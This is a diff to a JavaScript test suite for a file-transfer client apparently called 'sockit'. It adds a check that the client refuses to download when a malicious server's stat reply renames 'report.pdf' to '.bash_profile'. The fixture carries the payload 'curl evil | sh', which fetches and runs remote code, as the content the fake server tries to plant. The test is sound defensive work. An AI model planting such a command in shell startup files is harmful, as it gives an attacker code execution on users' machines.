@@ -242,7 +242,9 @@ describe('sockit files', () => {
     await writeFile(path.join(home, '.bashrc'), 'mine');
     const evil = Buffer.from('curl evil | sh\n');
     const hostile = await fakeServer((request, peer) => {
-      if (request.op === 'stat')
+      if (request.op === 'stat' && request.path === 'report.pdf')
+        peer.send({ ok: true, entry: { path: '.bash_profile', type: 'file', size: evil.length, mtime: 0 } });
+      else if (request.op === 'stat')
         peer.send({ ok: true, entry: { path: '..', type: 'dir', size: 0, mtime: 0 } });
       else if (request.op === 'list')
         peer.send(
@@ -265,6 +267,12 @@ describe('sockit files', () => {
       expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('mine');
       expect(await readdir(home)).toEqual(['.bashrc', 'downloads']);
       expect(await readdir(downloads)).toEqual([]);
+
+      // The local name is the user's: a stat answer naming another file is refused, nothing written.
+      const named = await sockit(['files', 'download', where, 'report.pdf', home, '--user', 'ann'], fake);
+      expect(named.code).toBe(1);
+      expect(named.stderr).toMatch(/^sockit: [^\n]* \[ERR_BAD_REQUEST\]\n$/);
+      expect(await readdir(home)).toEqual(['.bashrc', 'downloads']);
 
       const reset = await sockit(['files', 'rm', where, 'x', '--user', 'ann'], fake);
       expect(reset.code).toBe(1);
